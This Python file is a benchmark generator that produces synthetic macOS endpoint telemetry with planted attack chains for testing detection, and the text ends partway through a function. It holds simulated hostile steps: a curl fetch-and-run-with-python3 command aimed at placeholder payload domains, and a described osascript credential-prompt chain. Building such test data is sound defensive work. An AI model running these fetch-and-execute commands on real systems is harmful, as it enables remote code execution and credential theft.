"""A seeded fleet of Macs: real-format telemetry for many hosts with a known number of planted AN1316 chains.

Benchmark tooling (``bench/``), not shipped in the Lambda layer. Every record is in a real format, built once per
record kind with the record builders of ``scripts/make_samples.py`` (eslogger message version 9 with audit tokens
as objects, ``/`` escaped as ``\\/`` and hash-scrambled key order; ``log show --style ndjson``; Elastic Defend
``endpoint.events.network``), then compiled to a byte template whose varying parts (pids, pidversions, times,
mach ticks, sequence numbers, paths, destinations, entity ids) are slots. Rendering a record is a join of bytes,
which is what lets the generator write millions of records in minutes.

What a host does (all of it benign, weighted so that Endpoint Security's file open/close noise is about half):

- system daemons: open/close noise, launchd -> xpcproxy -> daemon runs, egress of nsurlsessiond/apsd/trustd;
- app launches (Safari, Chrome, Word, Excel, Preview, Slack, Zoom, VS Code) with their unified-log lines, starting
  with the login burst (macOS reopens a browser and two other apps within seconds of the user logging in);
- downloads by Safari (through ``com.apple.WebKit.Networking``) and Chrome, quarantined, with helper egress;
- browser and Office profile writes under ``~/Library`` (what keeps stage 2 busy on a real Mac);
- developers' Terminal shells running curl, git and python3 with egress;
- updaters: Keystone and Microsoft AutoUpdate started by launchd, and GoogleUpdater / MAU started *by* Chrome
  and Word, running ``/bin/sh`` and curl with egress (benign chains that the default allowlist suppresses);
- unified-log noise (sandbox denials, bluetooth, ...).

Planted chains (``truth.json`` lists each: host, route, app, stage-3 pid and path, egress destination):

- ``office_interpreter``: Word/Excel/PowerPoint launched, writes a file into ``~/Library/Containers``, runs
  ``/bin/sh -c "curl ... && python3 ..."``; curl and python3 connect out;
- ``browser_interpreter``: Chrome launched, downloads into ``~/Downloads``, runs ``/bin/zsh -c osascript ...``
  (a credential prompt) which connects to a raw IP;
- ``quarantined_app``: the mac-01 story: Safari downloads a zip, Archive Utility extracts an app, Gatekeeper
  translocates, scans and prompts, the user overrides, launchd starts the translocated app whose shell runs curl;
- ``office_crash`` (hard): Word has been running for hours (its exec is not in the stream), an exploited document
  makes it run ``/bin/sh`` -> curl and then crash; the crash report (stage 1) is a unified-log line after the child.

Hard variants layered on top (marked in the truth): ``net_first`` (the chain's Endpoint Security records arrive
11 minutes late, after the connection), ``late_unified`` (its unified-log lines arrive 25 minutes late) and
``pid_reuse`` (after the chain's curl exits, a developer's benign curl gets the same pid and connects elsewhere).

Layout: ``OUT/hosts/<host>/<chunk>-eslogger.jsonl``, ``-network.ndjson``, ``-unifiedlog.ndjson`` (files rotate
every ``--chunk-minutes`` of *arrival* time, each sorted by arrival), ``OUT/hosts/<host>/.arrival/<file>.i64``
(arrival ns of each line, for the EQL peer, which sees the fleet in arrival order), ``OUT/truth.json`` and
``OUT/manifest.json``.

Usage: ``python bench/fleet.py OUT --hosts 100 --minutes 30 --eps 10 --chains 40 --seed 7 [--workers 2]``
"""

from __future__ import annotations

import argparse
import base64
import os
import random
import re
import shutil
import sys
import time
from array import array
from bisect import bisect
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime
from itertools import accumulate
from pathlib import Path
from typing import Any

import orjson

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "scripts"))

import make_samples as ms  # noqa: E402  (the record builders of the bundled samples)
from make_samples import (  # noqa: E402
    ALICE,
    ARCHIVER,
    BASH,
    CURL,
    FLAGS_ADHOC,
    LAUNCHD,
    LOGIN,
    MDWORKER_SHARED,
    NETWORKING,
    OSASCRIPT,
    ROOT_CRED,
    SAFARI,
    SH,
    SUBTYPE_ARM64,
    SYSPOLICYD,
    TERMINAL,
    XPCPROXY,
    ZSH,
    Binary,
    Cred,
    Image,
    Inode,
    directory,
    file_obj,
    fresh,
    scramble,
    system_binary,
)

NS = 1_000_000_000
START_NS = 1_772_438_400 * NS  # 2026-03-02T08:00:00Z
HOME = "/Users/@@user@@"
TMP = "/var/folders/@@tmpa@@/@@tmpb@@/T"

# -- sentinels and templates ---------------------------------------------------------------------------------------
#: Integers 97000000x in a built record are slots (pids, pidversions, mach ticks, sequence numbers), times in 2099
#: are time slots, and ``@@name@@`` inside a string is a string slot.
_SENTINEL_BASE = 970_000_000
_T2099 = 4_070_908_800 * NS  # 2099-01-01T00:00:00Z
_SLOT_RE = re.compile(rb"@@([A-Za-z0-9_:.+\-]+)@@|(?<![0-9.])(97\d{7})(?![0-9])|"
                      rb"2099-01-01T(\d\d):(\d\d):(\d\d)\.(\d{9}|\d{6})Z")


@dataclass
class RecordTemplate:
    """One record as byte parts around slot keys; ``tname`` is the slot of its event time."""

    source: str  # "es" | "net" | "ul"
    tname: str
    parts: list[bytes]
    keys: list[str]
    tag: str = ""  # "post3": stage-3-and-later Endpoint Security records of a chain (the net_first variant)


@dataclass
class SceneTemplate:
    name: str
    records: list[RecordTemplate]
    offsets: dict[str, float]  # time name -> seconds after the scene starts
    images: list[str]  # scene-local process images that need a pid and pidversion
    meta: dict[str, Any] = field(default_factory=dict)

    @property
    def span_s(self) -> float:
        return max(self.offsets.values()) if self.offsets else 0.0


class Builder:
    """Builds the records of one scene with sentinel values, then compiles them to templates."""

    def __init__(self, name: str) -> None:
        self.name = name
        self.ints: dict[int, str] = {}
        self.int_keys: dict[str, int] = {}
        self.tnames: list[str] = []
        self.offsets: dict[str, float] = {}
        self.images: list[str] = []
        self.raw: list[tuple[str, str, bytes, str]] = []
        self.meta: dict[str, Any] = {}
        self.tag = ""
        self._thread = 0

    def sint(self, key: str) -> int:
        """A sentinel integer standing for slot ``key`` (even, so that ``+1`` is recognisable)."""
        value = self.int_keys.get(key)
        if value is None:
            value = _SENTINEL_BASE + 2 * len(self.int_keys)
            self.int_keys[key] = value
            self.ints[value] = key
        return value

    def t(self, name: str, offset: float | None = None) -> int:
        """A sentinel time for time slot ``name``; ``offset`` seconds after the scene start (scene-local)."""
        if name not in self.tnames:
            self.tnames.append(name)
        if offset is not None:
            self.offsets[name] = offset
        return _T2099 + self.tnames.index(name) * NS

    def image(self, name: str, binary: Binary, cred: Cred, *, parent: Image | None, ppid: int | None = None,
              responsible: Image | None = None, tty: dict[str, Any] | None = None, start: float | None = None,
              group: int | None = None) -> Image:
        """A process image whose pid, pidversion and start are slots (``h_*`` names are host-level images)."""
        if not name.startswith("h_") and name not in self.images:
            self.images.append(name)
        pid = self.sint(f"pid:{name}")
        return Image(pid=pid, pidversion=self.sint(f"ver:{name}"), binary=binary, cred=cred,
                     ppid=ppid if ppid is not None else (parent.pid if parent is not None else 1), parent=parent,
                     start_ns=self.t(f"s:{name}", start), group_id=group if group is not None else pid,
                     session_id=1, responsible=responsible, tty=tty)

    def forked(self, tname: str, offset: float, parent: Image, child: str, *, cred: Cred | None = None) -> Image:
        """``parent`` forks a child image named ``child`` at ``offset`` (emits the fork record)."""
        image = self.image(child, parent.binary, cred or parent.cred, parent=parent, start=offset,
                           responsible=parent.responsible or parent)
        image = replace(image, tty=parent.tty, group_id=parent.group_id)
        self.es(tname, offset, parent, "fork", {"child": image.process()})
        return image

    def execs(self, tname: str, offset: float, before: Image, binary: Binary, args: list[str], *,
              env: list[str] | None = None, cwd: str = "/", responsible: Image | None = None,
              self_responsible: bool = False, cred: Cred | None = None) -> Image:
        after = before.execs(binary, responsible=responsible, self_responsible=self_responsible, cred=cred)
        self.es(tname, offset, before, "exec", {
            "target": after.process(), "args": args, "env": env or [], "cwd": file_obj(cwd, ms.ROOT_DIR),
            "script": None, "dyld_exec_path": binary.path, "fds": ms.DEV_NULL_FDS, "last_fd": 2,
            "image_cputype": ms.CPU_ARM64, "image_cpusubtype": binary.subtype,
        })
        return after

    def exit(self, tname: str, offset: float, image: Image, status: int = 0) -> None:
        self.es(tname, offset, image, "exit", {"stat": status})

    def es(self, tname: str, offset: float, process: Image, name: str, payload: dict[str, Any]) -> None:
        """One eslogger record (the shape of ``make_samples.EsLog.emit``, with slots)."""
        self._thread += 1
        record = {
            "schema_version": 1, "version": 9, "time": ms.iso_ns(self.t(tname, offset)),
            "mach_time": self.sint(f"mach:{tname}"), "event_type": ms.EVENT_TYPES[name], "action_type": 1,
            "action": {"result": {"result": {"auth": 0}, "result_type": 0}}, "seq_num": self.sint("seq"),
            "global_seq_num": self.sint("gseq"), "thread": {"thread_id": 300_000 + 7 * self._thread},
            "process": process.process(), "event": {name: payload},
        }
        text = orjson.dumps(scramble(record, f"{self.name}/{tname}/{name}"))
        self.raw.append(("es", tname, text.replace(b"/", b"\\/"), self.tag))

    def net(self, tname: str, offset: float, image_name: str, image: Image, parent_name: str, args: list[str],
            *, domain: bool, action: str = "connection_attempted") -> None:
        """One Elastic Defend network document (the shape of ``make_samples.ecs_network``, with slots)."""
        stamp = ms.iso_us(self.t(tname, offset))
        destination: dict[str, Any] = {"address": "@@dip@@", "ip": "@@dip@@", "port": self.sint("dport")}
        if domain:
            destination = {"address": "@@dip@@", "domain": "@@dom@@", "ip": "@@dip@@", "port": self.sint("dport")}
        sig = image.binary
        doc = {
            "@timestamp": stamp,
            "agent": {"id": "@@agent@@", "type": "endpoint", "version": "8.15.2"},
            "data_stream": {"dataset": "endpoint.events.network", "namespace": "default", "type": "logs"},
            "ecs": {"version": "8.11.0"},
            "elastic": {"agent": {"id": "@@agent@@"}},
            "event": {"action": action, "category": ["network"], "created": stamp,
                      "dataset": "endpoint.events.network", "id": "@@evid@@", "kind": "event", "module": "endpoint",
                      "outcome": "unknown", "sequence": self.sint("nseq"),
                      "type": ["start" if action == "connection_attempted" else "end"]},
            "group": {"Ext": {"real": {"id": 20, "name": "staff"}}, "id": 20, "name": "staff"},
            "host": {"architecture": "arm64", "hostname": "@@host@@", "id": "@@hostid@@",
                     "ip": ["127.0.0.1", "::1", "@@hostip@@", "fe80::1"], "mac": ["@@hostmac@@"],
                     "name": "@@host@@",
                     "os": {"Ext": {"variant": "macOS"}, "family": "macos", "full": "macOS 15.6", "kernel": "24.6.0",
                            "name": "macOS", "platform": "macos", "type": "macos", "version": "15.6"}},
            "message": "Endpoint network event",
            "user": {"Ext": {"real": {"id": 501, "name": "@@user@@"}}, "id": 501, "name": "@@user@@"},
            "destination": destination,
            "source": {"address": "@@hostip@@", "ip": "@@hostip@@", "port": self.sint("sport")},
            "network": {"direction": "egress", "transport": "tcp", "type": "ipv4"},
            "process": {
                "Ext": {"ancestry": [f"@@eid:{parent_name}@@", "@@eid:h_launchd@@"]},
                "code_signature": {"exists": True, "signing_id": sig.signing_id,
                                   "status": "trusted" if sig.team_id or sig.platform else "errorCodeSignature",
                                   "subject_name": "Software Signing" if sig.platform else (sig.team_id or ""),
                                   "trusted": bool(sig.team_id or sig.platform)},
                "command_line": " ".join(args), "entity_id": f"@@eid:{image_name}@@", "executable": sig.path,
                "name": sig.path.rsplit("/", 1)[-1], "parent": {"entity_id": f"@@eid:{parent_name}@@"},
                "pid": image.pid,
            },
        }
        self.raw.append(("net", tname, orjson.dumps(doc), self.tag))

    def ul(self, tname: str, offset: float, template: str, message: str, pid: int) -> None:
        """One unified-log record: a real sample line (by its format string) with time, message and pid slots."""
        doc = dict(UL_TEMPLATES[template])
        self.t(tname, offset)
        doc["timestamp"] = f"@@ul:{tname}@@"
        doc["machTimestamp"] = self.sint(f"mach:{tname}")
        doc["eventMessage"] = message
        doc["processID"] = pid
        doc["traceID"] = 500_000_000_000 + 13 * len(self.raw)
        self.raw.append(("ul", tname, orjson.dumps(doc).replace(b"/", b"\\/"), "ul"))

    def compile(self) -> SceneTemplate:
        records = []
        for source, tname, data, tag in self.raw:
            parts: list[bytes] = []
            keys: list[str] = []
            pos = 0
            for match in _SLOT_RE.finditer(data):
                parts.append(data[pos:match.start()])
                pos = match.end()
                if match.group(1) is not None:
                    keys.append(match.group(1).decode())
                elif match.group(2) is not None:
                    value = int(match.group(2))
                    key = self.ints.get(value)
                    if key is None:
                        base = self.ints.get(value - 1)
                        if base is None:
                            raise ValueError(f"{self.name}: stray sentinel {value}")
                        key = base + "+1"
                    keys.append(key)
                else:
                    index = int(match.group(3)) * 3600 + int(match.group(4)) * 60 + int(match.group(5))
                    prefix = "tns:" if len(match.group(6)) == 9 else "tus:"
                    keys.append(prefix + self.tnames[index])
            parts.append(data[pos:])
            records.append(RecordTemplate(source, tname, parts, keys, tag))
        missing = [n for n in self.tnames if n not in self.offsets and not n.startswith("s:h_")]
        if missing:
            raise ValueError(f"{self.name}: times without an offset: {missing}")
        return SceneTemplate(self.name, records, dict(self.offsets), list(self.images), dict(self.meta))


def _load_ul_templates() -> dict[str, dict[str, Any]]:
    out: dict[str, dict[str, Any]] = {}
    for line in (ROOT / "events" / "mac-01" / "unifiedlog.ndjson").read_bytes().splitlines():
        doc = orjson.loads(line)
        if "formatString" in doc:
            out.setdefault(doc["formatString"], doc)
    by_name = {
        "rb_request": out["Launch request for %{public}@ is using uid %d (divined from auid %d euid %d)"],
        "rb_tracking": out["Now tracking process: %{public}@"],
        "uiagent_launch": out["LAUNCH: %s %s starting stopped process."],
        "loginwindow_url": out["%{public}s | Got App URL: %{public}@"],
        "sandbox": out["Sandbox: %s(%d) %s%s"],
        "bluetooth": out["Stopping LE scan for %{public}s"],
        "finder_click": out["sendAction:"],
        "translocate": out["SecTranslocateCreateSecureDirectoryForURL: created %{public}@"],
        "gk_scan": out["GK performScan"],
        "gk_xprotect": out["GK Xprotect results: %{public}@,%{public}@"],
        "gk_eval": out["GK evaluateScanResult: %d, %{public}@, %d, %d, %d, %d, %d, %d, %d"],
        "gk_prompt": out["Prompt shown (%d, %d), waiting for response"],
        "uiagent_prompt": out["present code-evaluation prompt"],
        "gk_cleared": out["Cleared Gatekeeper rejection record sucessfully"],
    }
    crash = dict(by_name["bluetooth"])
    crash.update({"formatString": "Formulating fatal %d report for corpse[%d] %{public}s", "userID": 501,
                  "subsystem": "com.apple.ReportCrash", "category": "default",
                  "processImagePath": "/System/Library/CoreServices/ReportCrash",
                  "senderImagePath": "/System/Library/CoreServices/ReportCrash"})
    by_name["crash"] = crash
    cfnet = dict(by_name["bluetooth"])
    cfnet.update({"formatString": "Task <%{public}@>.<%d> finished successfully", "subsystem": "com.apple.CFNetwork",
                  "category": "Summary", "processImagePath": "/usr/libexec/nsurlsessiond",
                  "senderImagePath": "/System/Library/Frameworks/CFNetwork.framework/Versions/A/CFNetwork"})
    by_name["cfnetwork"] = cfnet
    return by_name


UL_TEMPLATES = _load_ul_templates()

# -- binaries ------------------------------------------------------------------------------------------------------

FLAGS_TEAM = 0x22010301  # a Developer ID app with the hardened runtime (CS_VALID|CS_HARD|CS_KILL|CS_RUNTIME|...)


def team_binary(path: str, signing_id: str, team: str, ino: int, size: int) -> Binary:
    return Binary(path, signing_id, Inode(ino=ino, size=size, mode=0o100755, uid=0, gid=80), team_id=team,
                  platform=False, flags=FLAGS_TEAM, subtype=SUBTYPE_ARM64)


CHROME_APP = "/Applications/Google Chrome.app/Contents"
CHROME = team_binary(f"{CHROME_APP}/MacOS/Google Chrome", "com.google.Chrome", "EQHXZ8M8AV", 2_104_551, 3_411_712)
CHROME_HELPER = team_binary(
    f"{CHROME_APP}/Frameworks/Google Chrome Framework.framework/Versions/133.0.6943.142/Helpers/"
    "Google Chrome Helper.app/Contents/MacOS/Google Chrome Helper", "com.google.Chrome.helper", "EQHXZ8M8AV",
    2_104_602, 205_312)
WORD = team_binary("/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word", "com.microsoft.Word",
                   "UBF8T346G9", 2_233_109, 180_443_136)
EXCEL = team_binary("/Applications/Microsoft Excel.app/Contents/MacOS/Microsoft Excel", "com.microsoft.Excel",
                    "UBF8T346G9", 2_233_870, 152_110_080)
POWERPOINT = team_binary("/Applications/Microsoft PowerPoint.app/Contents/MacOS/Microsoft PowerPoint",
                         "com.microsoft.Powerpoint", "UBF8T346G9", 2_234_411, 160_996_352)
PREVIEW = Binary("/System/Applications/Preview.app/Contents/MacOS/Preview", "com.apple.Preview",
                 system_binary(1_152_921_500_311_986_120, 2_811_520))
SLACK = team_binary("/Applications/Slack.app/Contents/MacOS/Slack", "com.tinyspeck.slackmacgap", "BQR82RBBHL",
                    2_301_877, 271_360)
ZOOM = team_binary("/Applications/zoom.us.app/Contents/MacOS/zoom.us", "us.zoom.xos", "BJ4HAAB9B3", 2_309_004,
                   2_162_688)
VSCODE = team_binary("/Applications/Visual Studio Code.app/Contents/MacOS/Electron", "com.microsoft.VSCode",
                     "UBF8T346G9", 2_311_562, 361_472)
PYTHON3 = Binary("/usr/bin/python3", "com.apple.python3", system_binary(1_152_921_500_311_883_900, 167_120))
GIT = Binary("/usr/bin/git", "com.apple.dt.xcode_select.tool-shim", system_binary(1_152_921_500_311_883_402, 118_880))
GOOGLE_UPDATER = team_binary(
    f"{HOME}/Library/Application Support/Google/GoogleUpdater/133.0.6876.3/GoogleUpdater.app/Contents/MacOS/"
    "GoogleUpdater", "com.google.GoogleUpdater", "EQHXZ8M8AV", 5_510_331, 6_031_360)
KEYSTONE = team_binary(
    f"{HOME}/Library/Google/GoogleSoftwareUpdate/GoogleSoftwareUpdate.bundle/Contents/Resources/"
    "GoogleSoftwareUpdateAgent.app/Contents/MacOS/GoogleSoftwareUpdateAgent", "com.google.Keystone.Agent",
    "EQHXZ8M8AV", 5_510_402, 811_008)
MAU = team_binary("/Library/Application Support/Microsoft/MAU2.0/Microsoft AutoUpdate.app/Contents/MacOS/"
                  "Microsoft AutoUpdate", "com.microsoft.autoupdate2", "UBF8T346G9", 2_240_118, 3_092_480)


def _daemon(path: str, signing_id: str, ino: int) -> Binary:
    return Binary(path, signing_id, system_binary(1_152_921_500_311_000_000 + ino, 400_000 + ino))


NSURLSESSIOND = _daemon("/usr/libexec/nsurlsessiond", "com.apple.nsurlsessiond", 17)
APSD = _daemon("/System/Library/PrivateFrameworks/ApplePushService.framework/apsd", "com.apple.apsd", 29)
TRUSTD = _daemon("/usr/libexec/trustd", "com.apple.trustd", 31)
MDS_STORES = _daemon("/System/Library/Frameworks/CoreServices.framework/Versions/A/Frameworks/Metadata.framework/"
                     "Versions/A/Support/mds_stores", "com.apple.mds_stores", 43)
CFPREFSD = _daemon("/usr/sbin/cfprefsd", "com.apple.cfprefsd.xpc.daemon", 47)
FINDER = _daemon("/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "com.apple.finder", 53)
GEOD = _daemon("/usr/libexec/geod", "com.apple.geod", 59)
SPOTLIGHT_KNOWLEDGE = _daemon("/usr/libexec/knowledge-agent", "com.apple.knowledge-agent", 61)
SOFTWAREUPDATED = _daemon("/System/Library/PrivateFrameworks/MobileSoftwareUpdate.framework/Support/"
                          "softwareupdated", "com.apple.softwareupdated", 67)

#: Apps launched in the background: binary, bundle id, policy app?
LAUNCHABLE = {
    "safari": (SAFARI, "com.apple.Safari"), "chrome": (CHROME, "com.google.Chrome"),
    "word": (WORD, "com.microsoft.Word"), "excel": (EXCEL, "com.microsoft.Excel"),
    "powerpoint": (POWERPOINT, "com.microsoft.Powerpoint"), "preview": (PREVIEW, "com.apple.Preview"),
    "slack": (SLACK, "com.tinyspeck.slackmacgap"), "zoom": (ZOOM, "us.zoom.xos"),
    "vscode": (VSCODE, "com.microsoft.VSCode"),
}


# -- host-level images (running when the stream starts) ----------------------------------------------------------


def host_images(b: Builder) -> dict[str, Image]:
    """The long-running processes of a host, as images with host-level slots."""
    launchd = b.image("h_launchd", LAUNCHD, ROOT_CRED, parent=None, ppid=0)
    images = {"h_launchd": launchd}

    def user_app(name: str, binary: Binary, responsible: Image | None = None) -> Image:
        return b.image(name, binary, ALICE, parent=launchd, responsible=responsible)

    images["h_terminal"] = user_app("h_terminal", TERMINAL)
    images["h_safari"] = user_app("h_safari", SAFARI)
    images["h_networking"] = user_app("h_networking", NETWORKING, images["h_safari"])
    images["h_chrome"] = user_app("h_chrome", CHROME)
    images["h_chrome_helper"] = b.image("h_chrome_helper", CHROME_HELPER, ALICE, parent=images["h_chrome"],
                                        responsible=images["h_chrome"])
    images["h_word"] = user_app("h_word", WORD)
    images["h_finder"] = user_app("h_finder", FINDER)
    for name, binary in (("h_nsurlsessiond", NSURLSESSIOND), ("h_apsd", APSD), ("h_trustd", TRUSTD),
                         ("h_mds_stores", MDS_STORES), ("h_cfprefsd", CFPREFSD), ("h_syspolicyd", SYSPOLICYD)):
        images[name] = b.image(name, binary, ROOT_CRED, parent=launchd)
    return images


HOST_IMAGES = ["h_launchd", "h_terminal", "h_safari", "h_networking", "h_chrome", "h_chrome_helper", "h_word",
               "h_finder", "h_nsurlsessiond", "h_apsd", "h_trustd", "h_mds_stores", "h_cfprefsd", "h_syspolicyd"]
#: Unified-log sender pids (no images: the log names processes by pid only).
UL_PIDS = {"runningboardd": 164, "uiagent": 534, "loginwindow": 402, "lsd": 389, "syspolicyd": 355, "finder": 598,
           "reportcrash": 0}


# -- background scenes ---------------------------------------------------------------------------------------------


def scene_openclose(proc: str) -> SceneTemplate:
    b = Builder(f"openclose/{proc}")
    images = host_images(b)
    image = images[proc]
    node = fresh(8_800_000 + len(proc), 4_096, "2026-02-28T10:00:00.000000000Z")
    b.es("t0", 0.0, image, "open", {"fflag": 1, "file": file_obj("@@path@@", node)})
    b.es("t1", 0.004, image, "close", {"modified": False, "was_mapped_writable": False,
                                       "target": file_obj("@@path@@", node)})
    return b.compile()


def scene_daemon_run(binary: Binary) -> SceneTemplate:
    b = Builder(f"daemon/{binary.signing_id}")
    launchd = host_images(b)["h_launchd"]
    child = b.forked("t0", 0.0, launchd, "d", cred=ROOT_CRED)
    proxy = b.execs("t1", 0.001, child, XPCPROXY, ["xpcproxy", binary.signing_id], self_responsible=True)
    daemon = b.execs("t2", 0.006, proxy, binary, [binary.path], self_responsible=True)
    b.exit("t3", 2.5, daemon)
    return b.compile()


def scene_net(proc: str, *, domain: bool = True) -> SceneTemplate:
    b = Builder(f"net/{proc}")
    images = host_images(b)
    image = images[proc]
    parent = "h_chrome" if proc == "h_chrome_helper" else "h_launchd"
    b.net("t0", 0.0, proc, image, parent, [image.binary.path], domain=domain)
    return b.compile()


def scene_ul_noise(kind: str) -> SceneTemplate:
    b = Builder(f"ul/{kind}")
    if kind == "sandbox":
        b.ul("t0", 0.0, "sandbox", "(Sandbox) Sandbox: @@sbproc@@(@@sbpid@@) deny(1) mach-lookup @@sbsvc@@", 0)
    elif kind == "bluetooth":
        b.ul("t0", 0.0, "bluetooth", "Stopping LE scan for com.apple.bluetoothd-central-0", 171)
    else:
        b.ul("t0", 0.0, "cfnetwork", "Task <@@taskid@@>.<1> finished successfully", b.sint("pid:h_nsurlsessiond"))
    return b.compile()


def scene_profile_write(proc: str) -> SceneTemplate:
    b = Builder(f"profile/{proc}")
    image = host_images(b)[proc]
    node = fresh(9_100_000 + len(proc), 81_920, "2026-03-01T18:00:00.000000000Z")
    b.es("t0", 0.0, image, "close", {"modified": True, "was_mapped_writable": False,
                                     "target": file_obj("@@path@@", node)})
    return b.compile()


def _launch(b: Builder, images: dict[str, Image], name: str, binary: Binary, bundle_id: str, at: float,
            *, responsible: Image | None = None, unified: bool = True) -> Image:
    """launchd -> xpcproxy -> the app (Endpoint Security), with runningboardd's and CoreServicesUIAgent's lines."""
    launchd = images["h_launchd"]
    child = b.forked(f"{name}_fork", at, launchd, name, cred=ROOT_CRED)
    proxy = b.execs(f"{name}_proxy", at + 0.0008, child, XPCPROXY, ["xpcproxy", f"application.{bundle_id}"],
                    self_responsible=True)
    proxy = replace(proxy, cred=ALICE)
    app = b.execs(f"{name}_exec", at + 0.005, proxy, binary, [binary.path], responsible=responsible,
                  self_responsible=responsible is None, env=ms.gui_env(f"application.{bundle_id}.1.2", bundle_id))
    if unified:
        job = f"application.{bundle_id}.@@job1@@.@@job2@@"
        b.ul(f"{name}_ul1", at - 0.006, "rb_request", f"Launch request for app<{job}(501)>[0] is using uid 501 "
             "(divined from auid 501 euid 501)", UL_PIDS["runningboardd"])
        b.ul(f"{name}_ul2", at + 0.008, "rb_tracking", f"Now tracking process: [app<{job}(501)>:@@pid:{name}@@]",
             UL_PIDS["runningboardd"])
        b.ul(f"{name}_ul3", at + 0.02, "uiagent_launch",
             f"LAUNCH: 0x0-0x@@lsn@@ {bundle_id} starting stopped process.", UL_PIDS["uiagent"])
    return app


def scene_app_launch(key: str) -> SceneTemplate:
    binary, bundle_id = LAUNCHABLE[key]
    b = Builder(f"launch/{key}")
    images = host_images(b)
    app = _launch(b, images, "app", binary, bundle_id, 0.0)
    b.exit("quit", 900.0, app)
    return b.compile()


def scene_download(browser: str) -> SceneTemplate:
    b = Builder(f"download/{browser}")
    images = host_images(b)
    writer = images["h_networking"] if browser == "safari" else images["h_chrome"]
    partial = f"{HOME}/Downloads/@@fname@@.download/@@fname@@" if browser == "safari" \
        else f"{HOME}/Downloads/@@fname@@.crdownload"
    node = fresh(31_500_001, 0, "2026-03-02T08:00:00.000000000Z")
    b.es("t0", 0.0, writer, "create", {"destination_type": 0, "destination": {"existing_file": file_obj(partial, node)},
                                      "acl": None})
    done = replace(node, size=2_411_520)
    b.es("t1", 1.8, writer, "close", {"modified": True, "was_mapped_writable": False,
                                      "target": file_obj(partial, done)})
    b.es("t2", 1.81, writer, "rename", {
        "source": file_obj(partial, done), "destination_type": 1,
        "destination": {"new_path": {"dir": file_obj(f"{HOME}/Downloads", directory(388_004, 17, ms.SYSTEM_BUILD)),
                                     "filename": "@@fname@@"}}})
    for i, attr in enumerate(("com.apple.metadata:kMDItemWhereFroms", "com.apple.quarantine")):
        b.es(f"x{i}", 1.812 + i * 0.0004, writer, "setextattr",
             {"target": file_obj(f"{HOME}/Downloads/@@fname@@", done), "extattr": attr})
    helper = "h_networking" if browser == "safari" else "h_chrome_helper"
    parent = "h_launchd" if browser == "safari" else "h_chrome"
    b.net("n0", -0.2, helper, images[helper], parent, [images[helper].binary.path], domain=True)
    return b.compile()


def _terminal_shell(b: Builder, images: dict[str, Image], at: float) -> tuple[Image, list[str]]:
    terminal = images["h_terminal"]
    child = b.forked("login_fork", at, terminal, "login")
    login = b.execs("login_exec", at + 0.003, child, LOGIN, ["login", "-pf", "@@user@@"], env=ms.TERMINAL_ENV,
                    cred=ms.ALICE_LOGIN, responsible=terminal)
    zchild = b.forked("zsh_fork", at + 0.018, login, "zsh")
    env = [*ms.TERMINAL_ENV, f"HOME={HOME}", "LOGNAME=@@user@@"]
    zsh = b.execs("zsh_exec", at + 0.02, zchild, ZSH, ["-zsh"], env=env, cwd=HOME, cred=ms.ALICE_TTY,
                  responsible=terminal)
    return zsh, env


DEV_TOOLS = {
    "curl": (CURL, ["curl", "-fsSL", "https://api.github.com/repos/@@user@@/dotfiles/releases/latest"]),
    "git": (GIT, ["git", "fetch", "origin"]),
    "python3": (PYTHON3, ["python3", "-m", "pip", "install", "-q", "requests"]),
}


def scene_terminal(tool: str) -> SceneTemplate:
    b = Builder(f"terminal/{tool}")
    images = host_images(b)
    zsh, env = _terminal_shell(b, images, 0.0)
    binary, args = DEV_TOOLS[tool]
    tchild = b.forked("tool_fork", 12.0, zsh, "tool")
    run = b.execs("tool_exec", 12.002, tchild, binary, args, env=env, cwd=f"{HOME}/src", responsible=images[
        "h_terminal"])
    b.net("tool_net", 12.3, "tool", run, "zsh", args, domain=True)
    b.exit("tool_exit", 14.0, run)
    b.exit("zsh_exit", 600.0, zsh)
    return b.compile()


def scene_updater_launchd(which: str) -> SceneTemplate:
    b = Builder(f"updater/{which}")
    images = host_images(b)
    binary = KEYSTONE if which == "keystone" else MAU
    agent = _launch(b, images, "agent", binary, binary.signing_id, 0.0, unified=False)
    _updater_tail(b, agent, 0.5)
    return b.compile()


def _updater_tail(b: Builder, agent: Image, at: float) -> None:
    schild = b.forked("sh_fork", at, agent, "sh")
    command = "curl -fsSL -o /tmp/upd.xml https://@@dom@@/service/update2"
    sh = b.execs("sh_exec", at + 0.002, schild, SH, ["/bin/sh", "-c", command], responsible=agent)
    cchild = b.forked("curl_fork", at + 0.01, sh, "curl")
    curl = b.execs("curl_exec", at + 0.012, cchild, CURL, ["curl", "-fsSL", "-o", "/tmp/upd.xml",
                                                             "https://@@dom@@/service/update2"], responsible=agent)
    b.net("curl_net", at + 0.2, "curl", curl, "sh", ["curl"], domain=True)
    b.exit("curl_exit", at + 1.4, curl)
    b.exit("sh_exit", at + 1.41, sh)
    b.exit("agent_exit", at + 3.0, agent)


def scene_updater_under_app(app: str) -> SceneTemplate:
    b = Builder(f"app_updater/{app}")
    images = host_images(b)
    parent = images["h_chrome"] if app == "chrome" else images["h_word"]
    binary = GOOGLE_UPDATER if app == "chrome" else MAU
    child = b.forked("agent_fork", 0.0, parent, "agent")
    agent = b.execs("agent_exec", 0.003, child, binary, [binary.path, "--wake"], responsible=parent)
    _updater_tail(b, agent, 0.5)
    return b.compile()


# -- planted chains ------------------------------------------------------------------------------------------------

PAYLOAD_DOMAINS = ["cdn.update-check.example", "files.docs-share.example", "static.invoice-view.example",
                   "dl.mac-tools.example"]


def _app_writes(b: Builder, tname: str, at: float, image: Image, path: str, ino: int) -> None:
    node = fresh(ino, 0, "2026-03-02T08:00:00.000000000Z")
    b.es(f"{tname}_c", at, image, "create", {"destination_type": 0,
                                             "destination": {"existing_file": file_obj(path, node)}, "acl": None})
    b.es(f"{tname}_w", at + 0.05, image, "close", {"modified": True, "was_mapped_writable": False,
                                                  "target": file_obj(path, replace(node, size=48_211))})


def chain_office_interpreter(app_key: str) -> SceneTemplate:
    b = Builder(f"chain/office/{app_key}")
    images = host_images(b)
    binary, bundle_id = LAUNCHABLE[app_key]
    app = _launch(b, images, "app", binary, bundle_id, 0.0)
    container = f"{HOME}/Library/Containers/{bundle_id}/Data/Library/Caches/@@fname@@"
    _app_writes(b, "drop", 35.0, app, container, 31_600_001)
    command = f"curl -fsSL https://@@dom@@/p -o /tmp/.@@tok@@ && python3 /tmp/.@@tok@@ {container}"
